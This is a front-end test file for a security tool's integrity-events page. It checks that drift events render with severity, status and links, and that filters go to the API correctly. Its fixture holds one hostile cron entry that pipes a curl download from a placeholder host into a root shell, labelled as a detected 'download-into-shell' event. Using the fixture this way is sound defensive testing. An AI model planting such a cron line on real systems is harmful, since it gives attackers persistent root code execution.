import { screen, within } from "@testing-library/react";
import { beforeEach, describe, expect, it, vi } from "vitest";
import { forgetAntiforgeryToken, type Schemas } from "../../api/client";
import { json, serveRoutes, type Served } from "../../test/http";
import { featuresOf, renderPage } from "../../test/render";
import { IntegrityEventsPage } from "./IntegrityEventsPage";

const fetchMock = vi.hoisted(() => {
  const mock = vi.fn<typeof fetch>();
  vi.stubGlobal("fetch", mock);
  return mock;
});

const events: Schemas["IntegrityEventSummary"][] = [
  {
    id: "ev-1",
    assetId: "a-1",
    hostname: "web-01",
    category: "scheduled",
    kind: "cron-entry",
    entryKey: "/etc/cron.d/sysupdate:*/5 * * * * root curl http://x | sh",
    change: "added",
    severity: "critical",
    ruleKeys: ["download-into-shell"],
    status: "resolved",
    resolution: "reverted",
    assigneeId: null,
    detectedAt: "2026-11-22T10:00:00Z",
    lastSeenAt: "2026-11-22T10:05:00Z",
    updatedAt: "2026-11-22T10:05:00Z",
  },
];

let served: Served[];

beforeEach(() => {
  fetchMock.mockReset();
  forgetAntiforgeryToken();
  served = serveRoutes(fetchMock, {
    "GET /api/v1/features": () => json(200, featuresOf("t-1", ["integrity"])),
    "GET /api/v1/tenants/t-1/integrity/events": () => json(200, { items: events, page: 1, pageSize: 50, total: 1 }),
  });
});

describe("IntegrityEventsPage", () => {
  it("lists drift with severity, change, status and resolution, linking to the event and the asset", async () => {
    renderPage("/t/:tenantId/integrity-events", "/t/t-1/integrity-events", <IntegrityEventsPage />);

    const link = await screen.findByRole("link", { name: events[0]!.entryKey });
    expect(link).toHaveAttribute("href", "/t/t-1/integrity-events/ev-1");
    const row = link.closest("tr")!;
    expect(within(row).getByText("CRITICAL")).toBeInTheDocument();
    expect(within(row).getByText("Added")).toBeInTheDocument();
    expect(within(row).getByText("Resolved")).toBeInTheDocument();
    expect(within(row).getByText("Back to baseline")).toBeInTheDocument();
    expect(within(row).getByRole("link", { name: "web-01" })).toHaveAttribute("href", "/t/t-1/assets/a-1?tab=integrity");
  });

  it("sends the filters as the API names them, active as a boolean", async () => {
    renderPage("/t/:tenantId/integrity-events", "/t/t-1/integrity-events?active=true&minSeverity=high&category=boot", <IntegrityEventsPage />);

    await screen.findByRole("link", { name: events[0]!.entryKey });
    const query = served.find((r) => r.path === "/api/v1/tenants/t-1/integrity/events")!.query;
    expect(Object.fromEntries(query)).toEqual({ active: "true", minSeverity: "high", category: "boot", page: "1", pageSize: "50" });
  });
});
